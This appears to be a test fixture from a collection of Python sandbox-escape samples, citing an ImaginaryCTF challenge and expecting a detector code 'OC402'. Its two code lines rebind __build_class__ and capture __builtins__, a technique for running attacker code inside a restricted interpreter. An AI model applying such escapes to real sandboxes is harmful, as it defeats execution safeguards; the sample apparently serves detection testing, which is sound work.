# Escape: rebind __build_class__ and reach __builtins__ so class statements call attacker code and builtins can be merged
# Source: https://github.com/jailctf/pyjail-collection/blob/3a4146c8df69f0ba65f1aa8fe7fe46b8711fa2ca/chals/decorated/README.md (ImaginaryCTF Round 33 "decorated")
# Expect: OC402

__build_class__ = lambda *args: args
shared = __builtins__
